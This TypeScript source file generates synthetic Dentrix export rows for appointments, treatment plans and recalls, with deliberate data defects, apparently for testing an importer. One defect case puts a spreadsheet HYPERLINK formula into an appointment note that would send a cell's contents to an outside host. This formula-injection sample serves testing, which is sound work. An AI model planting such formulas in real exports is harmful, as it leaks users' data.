import type { LinkTo } from '../../practice/export-run.js';
import { NOBODY } from '../../practice/households.js';
import type { Office, Person, Plan, PlannedItem, Recall, Visit } from '../../practice/model.js';
import { VISIT_KINDS } from '../../practice/words.js';
import { phoneCell, plainMoney, shortUsDate, styledMoney, usDate } from '../../practice/cells.js';
import type { DentrixSheets } from './export-layout.js';
import type { Row } from './export-people.js';

type ColumnOf<N extends keyof DentrixSheets> = DentrixSheets[N]['columns'][number];

/** The office's own names for appointment statuses; `-106` is Dentrix's fixed number for a completed one. */
export const APPOINTMENT_STATUSES = {
  '1': 'Unconfirmed', '2': 'Confirmed', '3': 'Left message', '4': 'Arrived', '5': 'In chair', '7': 'No show', '8': 'Unscheduled list', '-106': 'Complete',
} as const;
const STATUS_WITHOUT_NAME = '150';
const STATUS_IDS = { confirmed: '2', completed: '-106', 'no-show': '7', broken: '1', unscheduled: '8' } as const;

const CASE_STATUSES = {
  created: 'Created', printed: 'Printed', 'pre-authorized': 'Pre-Auth (Primary)', 'followed-up': 'Follow-up Made', preferred: 'Preferred',
  proposed: 'Proposed', accepted: 'Accepted', rejected: 'Rejected', completed: 'Completed',
} as const;

/** A row of `v_appt.csv`. Somebody who booked before there was a record of them has patient 0 and a name. */
export function appointmentRow(visit: Visit, person: Person, office: Office, sound: boolean): Row<ColumnOf<'v_appt.csv'>> {
  const { defect } = visit;
  const patient = appointmentPatient(visit, person);
  const provider = defect === 'provider-placeholder-booked' ? 'Walk-In' : visit.provider;
  const code = (index: number): readonly [string, string] => {
    const id = visit.codes[index];
    if (index === 0 && defect === 'code-missing-from-list') return [String(NOBODY), '0'];
    return id === undefined ? ['0', '0'] : [String(id), '0'];
  };
  const [first, second, third] = [code(0), code(1), code(2)];
  const cells = {
    appointment_id: String(visit.id), patient_id: patient, patient_name: appointmentName(visit, person), appointment_date: usDate(visit.date),
    start_hour: defect === 'midnight-start' ? '0' : String(visit.hour), start_minute: defect === 'midnight-start' ? '0' : String(visit.minute),
    length: defect === 'length-zero' ? '0' : String(visit.minutes), operatory_id: visit.room, provider_id: provider,
    addtnl_provider_id: visit.secondProvider, appttype: String(visit.kind), reason: visit.reason, status_id: appointmentStatus(visit),
    broken: visit.status === 'broken' ? '1' : '0', note: appointmentNote(visit, person),
    codeid1: first[0], codetype1: first[1], codeid2: second[0], codetype2: second[1], codeid3: third[0], codetype3: third[1],
  };
  const links: LinkTo[] = patient === String(person.id) ? [['patient', 'patient', patient]] : [];
  if (office.providers.some(({ id }) => id === provider)) links.push(['provider', 'provider', provider]);
  const change = (turn: number): readonly [ColumnOf<'v_appt.csv'>, string] => {
    if (turn % 3 === 0) return ['length', String(visit.minutes + 10)];
    return turn % 3 === 1 ? ['reason', 'Moved by phone'] : ['note', 'Please bring the new insurance card'];
  };
  return { cells, about: { key: cells.appointment_id, links, defects: defect === null ? [] : [defect], ...(sound && defect === null ? { change } : {}) } };
}

function appointmentPatient({ defect }: Visit, person: Person): string {
  if (defect === 'patient-missing') return String(NOBODY + person.id);
  return defect === 'booked-before-patient-record' || defect === 'booked-by-stranger' ? '0' : String(person.id);
}

function appointmentName({ defect, id }: Visit, person: Person): string {
  if (defect === 'booked-by-stranger') return `Newcomer${id}, Pat`;
  if (defect !== 'name-in-other-order') return person.first === '' ? person.last : `${person.last}, ${person.first}`;
  return id % 2 === 0 ? `${person.last.toUpperCase()},${person.first.toUpperCase()}` : `${person.last}, ${person.first} (Sue) Q.`;
}

function appointmentStatus({ status, defect, id }: Visit): string {
  if (defect === 'status-without-name') return STATUS_WITHOUT_NAME;
  if (status !== 'scheduled') return STATUS_IDS[status];
  return id % 3 === 0 ? '3' : '1';
}

/** The view has no telephone column: offices type a newcomer's number into the note. */
function appointmentNote(visit: Visit, person: Person): string {
  switch (visit.defect) {
    case 'booked-before-patient-record':
      return `New patient, ${phoneCell(person.phones.mobile || person.phones.home, 0)}`;
    case 'booked-by-stranger':
      return 'New patient, (312)555-0199';
    case 'garbled-note':
      return 'Doesnâ€™t want a reminder';
    case 'formula-in-note':
      return '=HYPERLINK("http://example.com/?"&A1,"confirm")';
    default:
      return visit.note;
  }
}

/** The office's appointment types by number; 0 stands for none and is printed as Dentrix prints it. */
export function appointmentTypes(): readonly { readonly id: string; readonly name: string }[] {
  return VISIT_KINDS.map((name, index) => ({ id: String(index), name: name === '' ? '<none>' : name }));
}

/**
 * A row of `treatment_plans.csv`. A default case changes only where no named case holds the same work, and an alternative never:
 * otherwise the change would concern a plan that does not become a record.
 */
export function planRow(plan: Plan, plans: readonly Plan[], person: Person, sound: boolean): Row<ColumnOf<'treatment_plans.csv'>> {
  const isLost = plan.defect === 'plan-of-missing-patient';
  const cells = {
    case_id: String(plan.id), patient_id: String(isLost ? NOBODY + person.id : person.id), case_name: plan.name, status: CASE_STATUSES[plan.status],
    provider_id: plan.provider, created_date: usDate(plan.created), is_default: plan.isDefault ? '1' : '0', alternate_set: plan.alternateSet,
  };
  const counts = plan.defect === null && plan.items.every(({ defect }) => defect === null) && (!plan.isDefault || plans.length === 1);
  const change = (): readonly ['case_name', string] => ['case_name', `${plan.name} (revised)`];
  return {
    cells,
    about: {
      key: cells.case_id, links: isLost ? [] : [['patient', 'patient', cells.patient_id]],
      defects: [...(plan.defect === null ? [] : [plan.defect]), ...(plan.isDefault && plans.length > 1 ? ['default-case-copy'] : [])],
      ...(sound && counts ? { change } : {}),
    },
  };
}

/** A row of `treatment_plan_items.csv`. */
export function itemRow(item: PlannedItem, plan: Plan): Row<ColumnOf<'treatment_plan_items.csv'>> {
  const { defect } = item;
  const status = defect === 'item-deleted' ? 'Deleted' : item.completed ? 'Completed' : 'TP';
  const cells = {
    item_id: String(item.id), case_id: String(plan.id), proc_id: String(item.procedure), code: item.code, description: item.text, tooth: item.tooth,
    surface: item.surface, fee: defect === 'fee-with-symbols' ? styledMoney(item.fee, 'symbols') : plainMoney(item.fee),
    ins_est: defect === 'estimate-not-set' ? '-1.00' : plainMoney(item.estimate), date_planned: usDate(item.date), status,
  };
  return { cells, about: { key: cells.item_id, links: [['plan', 'treatmentPlan', cells.case_id]], defects: defect === null ? [] : [defect] } };
}

/** A row of `v_patient_recall.csv`, which has no number of its own: patient and type identify it. */
export function recallRow(recall: Recall, person: Person, asOf: number, sound: boolean): Row<ColumnOf<'v_patient_recall.csv'>> {
  const { defect } = recall;
  const patient = String(defect === 'recall-of-missing-patient' ? NOBODY + person.id : person.id);
  const due = defect === 'recall-due-missing' ? '' : defect === 'recall-two-digit-year' ? shortUsDate(recall.due) : usDate(recall.due);
  const cells = {
    patient_id: patient, recall_type: recall.type, due_date: due, prior_date: defect === 'recall-prior-sentinel' ? '12/30/1899' : usDate(recall.prior),
    interval: defect === 'recall-interval-odd' ? 'as needed' : recallInterval(recall.months), provider_id: recall.provider, status: recall.status,
  };
  // A change stays on its side of today: whether a recall is overdue must not change with it.
  const change = (): readonly ['due_date', string] => ['due_date', usDate(recall.due + (recall.due > asOf ? 7 : -7))];
  return {
    cells,
    about: {
      key: `${patient}:${recall.type}`, links: patient === String(person.id) ? [['patient', 'patient', patient]] : [],
      defects: defect === null ? [] : [defect], ...(sound && defect === null && recall.status !== 'Disabled' ? { change } : {}),
    },
  };
}

function recallInterval(months: number): string {
  return months % 12 === 0 ? `${months / 12}y1d` : `${months}m1d`;
}
